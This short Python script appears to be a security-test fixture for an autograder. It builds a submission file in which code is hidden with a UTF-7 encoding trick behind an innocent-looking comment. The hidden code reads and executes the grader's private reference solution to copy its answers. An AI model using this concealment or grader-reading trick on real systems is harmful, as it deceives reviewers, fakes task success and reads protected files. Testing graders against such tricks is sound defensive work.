from pathlib import Path

RIGHT = (Path(__file__).parent.parent / "right-torch" / "submission.py").read_text()
HIDDEN = """
def A_matrix(alpha):
    try:
        scope = {}
        exec(open("/tmp/autograder-attack/source/reference.py").read(), scope)
        return scope["A_matrix"](alpha)
    except OSError:
        return "refused"
"""


def make(folder):
    hidden = "".join(f"+{__import__('base64').b64encode(c.encode('utf-16-be')).decode().rstrip('=')}-" for c in HIDDEN)
    text = "# coding: utf-7\n" + RIGHT.replace("+", "+-") + "# nothing below" + hidden + "\n"
    (folder / "submission.py").write_text(text, "ascii")
    return folder
